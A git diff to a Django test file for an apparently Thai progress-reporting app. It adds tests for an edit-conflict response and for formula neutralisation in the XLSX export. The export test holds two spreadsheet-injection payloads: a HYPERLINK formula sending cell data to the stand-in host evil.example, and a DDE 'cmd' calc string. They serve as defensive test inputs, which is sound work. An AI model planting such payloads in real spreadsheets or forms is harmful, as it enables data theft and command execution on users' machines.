@@ -9,6 +9,7 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from saphan.core.tests import files
 from saphan.plans.models import ProgressReport, ReportState
 
 from .world import make_world
@@ -159,7 +160,9 @@ def test_evidence_upload_and_download(client, w):
     _as(client, w["cw_kk"])
     _start(client, w)
     report = ProgressReport.objects.get()
-    pdf = SimpleUploadedFile("minutes.pdf", b"%PDF-1.4 minutes", content_type="application/pdf")
+    pdf = SimpleUploadedFile(
+        "minutes.pdf", files.pdf(text="minutes"), content_type="application/pdf"
+    )
     client.post(
         reverse("plans:evidence_upload", args=[report.pk]), {"file": pdf, "title": "บันทึกการประชุม"}
     )
@@ -240,3 +243,43 @@ def test_the_plan_page_and_setting_targets(client, w):
     assert client.post(url, data).status_code == 302
     a.refresh_from_db()
     assert a.target == Decimal(260)
+
+
+def test_a_conflict_keeps_the_second_persons_summary_in_the_form(client, w):
+    """Two people open the same draft; the first saves; the second's save is refused as a
+    conflict and the page still holds the second person's summary and entries."""
+    _as(client, w["cw_kk"])
+    _start(client, w)
+    report = ProgressReport.objects.get()
+    stale = _form(report)  # the second person's form, opened at this version
+    first = _form(report, value="7")
+    first["summary"] = "สรุปของคนแรก"
+    assert client.post(reverse("plans:report", args=[report.pk]), first).status_code == 302
+    stale["summary"] = "สรุปของคนที่สอง: จัดอบรมสามครั้ง"
+    response = client.post(reverse("plans:report", args=[report.pk]), stale)
+    assert response.status_code == 409
+    text = response.content.decode()
+    assert "สรุปของคนที่สอง: จัดอบรมสามครั้ง" in text
+    assert 'value="5"' in text  # the second person's values, not the saved 7
+    report.refresh_from_db()
+    assert report.summary == "สรุปของคนแรก"
+
+
+def test_report_xlsx_neutralises_formulas_typed_in_the_report(client, w):
+    from openpyxl import load_workbook
+
+    _as(client, w["cw_kk"])
+    _start(client, w)
+    report = ProgressReport.objects.get()
+    evil = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    data = _form(report)
+    data["summary"] = evil
+    for key in [k for k in data if k.endswith("-narrative")]:
+        data[key] = "+cmd|' /C calc'!A0"
+    assert client.post(reverse("plans:report", args=[report.pk]), data).status_code == 302
+    xlsx = client.get(reverse("plans:report_xlsx", args=[report.pk]))
+    ws = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    values = [c.value for c in cells]
+    assert "'" + evil in values and "'+cmd|' /C calc'!A0" in values
